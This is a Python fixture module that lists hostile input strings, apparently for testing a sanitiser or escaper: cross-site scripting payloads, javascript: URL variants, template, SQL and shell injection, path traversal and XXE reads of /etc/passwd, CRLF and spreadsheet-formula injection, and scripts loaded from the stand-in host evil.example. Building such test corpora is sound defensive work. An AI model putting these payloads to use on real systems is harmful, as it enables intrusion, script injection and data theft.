"""Hostile values: what people write into fields to break out of them."""

TAGS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\">", "<img src=`x` onerror=`alert(1)`>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=javascript:alert(1)><button>x", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<template><script>alert(1)</script></template>", "<plaintext>", "<xmp>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<table><td background=javascript:alert(1)>", "<x onclick=alert(1)>x", "<b", "<", "</", "<!", "<?", "<a/", "<\x00script>", "<%00script>",
]
QUOTES = [
    "\"", "'", "`", "\"'", "\"\"", "''", "\">", "'>", "\"/>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"", "' autofocus onfocus=alert(1) x='", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "\\\"><script>alert(1)</script>", "\\'-alert(1)-\\'", "x onclick=alert(1)", " = ", "a=b;c", "\\", "\\\\", "\\\"", "\"\\",
]
ENDS = [
    "</title><script>alert(1)</script>", "</TITLE\t><img src=x onerror=alert(1)>", "</textarea><script>alert(1)</script>", "</textarea",
    "</script><script>alert(1)</script>", "</SCRIPT\n>", "</style><img src=x onerror=alert(1)>", "</p></body></html>", "</svg></math><script>alert(1)</script>",
    "-->", "--!>", "<!--", "<!--<script>", "<!-- --><script>alert(1)</script>", "]]>", "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE html>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<?xml version='1.0'?>", "<?php system('id') ?>",
]
ENTITIES = [
    "&", "&&", "&amp;", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&quot; onclick=&quot;",
    "&#34;", "&#0;", "&#x110000;", "&lt", "&ltscript", "&copy=1", "&notit;", "&amp;lt;", "&#x26;lt;b&#x26;gt;", "&Tab;&NewLine;",
]
SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "\x01javascript:alert(1)", "\x1f\x00 javascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)", "javascript\t:alert(1)", "javascript\n:alert(1)", "javascript :alert(1)",
    "j\na\tv\ra\nscript:alert(1)", "\u00a0javascript:alert(1)", "\u2028javascript:alert(1)", "\ufeffjavascript:alert(1)", "java\x00script:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "javascript%3Aalert(1)", "%6aavascript:alert(1)", "javascript://%0aalert(1)", "javascript://evil.example/?%0aalert(1)", "javascript:/*--></title></script>*/alert(1)",
    "java\u017fcript:alert(1)", "ｊavascript:alert(1)", "javascript\uff1aalert(1)",
    "vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "DATA:,x", "blob:https://a.example/1", "filesystem:https://a.example/", "file:///etc/passwd", "about:blank", "about:srcdoc",
    "view-source:https://a.example", "feed:javascript:alert(1)", "jar:https://a.example!/", "ms-its:x", "ws://a.example", "ftp://a.example", "intent://x", "x:y", ":", ":a", "1:a",
    "javascript:alert(1)//http://a.example", "http:javascript:alert(1)", "http://a.example/?b=c&d=\"e\"", "HTTPS://A.example/#'<", "https:\\\\evil.example", "mailto:a@b.example?subject=<b>",
    "tel:+1\"", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "../../../etc/passwd", "..%2f..%2f", "/a:b", "?javascript:alert(1)", "#javascript:alert(1)", "a/b:c",
    "a.png 1x, javascript:alert(1) 2x", "javascript:alert(1) 1x, a.png 2x", "a.png,javascript:alert(1)", ",javascript:alert(1)", ",,, javascript:alert(1) 9w", "a.png 1x\"2x", "data:,a 1x, b 2x",
    "a(,javascript:alert(1)) 1x", "a.png\tjavascript:alert(1)",
]
CHARACTERS = [
    "\x00", "a\x00b", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\x80", "\x85", "\x9f", "\u00ad", "\u200b\u200c\u200d", "\u202egpj.exe", "\u2066x\u2069", "\u2028", "\u2029",
    "a\u2028b\u2029c", "\ufeff", "\ufeff<b>", "\ufffd", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ud7ff\ue000", "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u0130\u0131\u00df\ufb01", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02b9\u2032\u2019", "e\u0301\u0301\u0301\u0301", "\ud55c\uae00 \u0639\u0631\u0628\u064a", "\t", "\n", "\r", "\r\n", "a\rb\r\nc\nd", " ", "  a  b  ",
    "", "\n\n<b>", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "\\74script", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3E", "%253C", "%", "%zz", "%u003c", "%00",
]
LANGUAGES = [
    "expression(alert(1))", "background:url(javascript:alert(1))", "}*{background:red}", "@import '//evil.example/x.css';", "width:1px;behavior:url(x)", "\\65xpression(1)", "/**/", "*/alert(1)/*",
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{# x #}", "}}{{ x }}{{", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[x]]", "{{constructor.constructor('alert(1)')()}}", "{% endblock %}", "{% raw %}",
    "';alert(1);//", "\";alert(1);//", "`${alert(1)}`", "alert(1)", "__proto__", "0", "-1", "1e999", "null", "true", "NaN", "[1,2]", "{\"a\": 1}", "' or 1=1 --", "'; drop table clients; --", "$(id)", "`id`", "| id",
    "'+alert(1)+'", "\"-alert(1)-\"", "\\\n", "\\\u2028", "');alert(1)//", "\u2028alert(1)//", "\nalert(1)", "*/alert(1)/*", "//", "/*", "alert(1)//\\", "\\u0027-alert(1)-\\u0027",
    "use strict", "true", "this", "x=>alert(1)", "]+alert(1)+[", "},alert(1),{", ")/alert(1)/(", "{{constructor}}", "</script", "<!--<script>alert(1)//-->", "--", "++", "/", "//a", "/.",
    "red", "#ffcc00", "12.5px", "100%", "a, b", "-1px", "red;color:blue", "red}*{color:blue", "url(javascript:alert(1))", "url(", "rgb(1,2,3)", "\\27", "\\", "\\\n;color:red", "';color:red", "\");color:red", ")", "@import", "!important", "<!--", "U+26",
    "a\r\nSet-Cookie: x=y", "../../etc/passwd\x00.png", "=cmd|' /C calc'!A0",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "\"'`><\x00&;:/?#[]@!$()*+,=%\\|{}^~", "<" * 2000, "\"" * 2000, "&" * 2000, "A" * 20000, "javascript:" * 500, "<p>" * 300 + "</p>" * 300,
]

HARMLESS = "harmless"
HOSTILE = TAGS + QUOTES + ENDS + ENTITIES + SCHEMES + CHARACTERS + LANGUAGES
